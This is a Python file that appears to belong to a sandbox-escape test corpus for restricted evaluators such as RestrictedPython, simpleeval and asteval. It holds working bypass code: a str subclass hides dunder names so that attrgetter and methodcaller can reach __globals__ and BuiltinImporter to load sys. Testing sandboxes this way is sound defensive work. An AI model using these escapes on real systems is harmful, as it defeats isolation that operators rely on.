# technique: operator.attrgetter read as data (namedtuple match), called with a str subclass whose split()/len/indexing hide the dunder from Python-level checks
# source: RestrictedPython / simpleeval: attrgetter; asteval advisory class: str subclasses

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, collections, dataclasses, functools


def pub(mod, name):
    """mod.<name> for a name held as data: a namedtuple's __match_args__ is
    its field names, and an ABC registered for the module type matches."""
    N = collections.namedtuple('N', [name])

    class P(N, abc.ABC):
        pass
    P.register(type(mod))
    match mod:
        case P(v):
            return v
    raise AttributeError(name)


import operator, json


class Hidden(str):
    def split(self, *a, **k):
        return ['name']

    def __getitem__(self, i):
        return 'n'

    def __len__(self):
        return 0

    def startswith(self, *a):
        return False

attempt('attrgetter(Hidden(__globals__))',
        lambda: pub(operator, 'attrgetter')(Hidden(dn('globals')))(json.dumps))
attempt('methodcaller(Hidden(__subclasses__))',
        lambda: [c for c in pub(operator, 'methodcaller')(Hidden(dn('subclasses')))(object)
                 if c.__name__ == 'BuiltinImporter'][0].load_module('sys'))
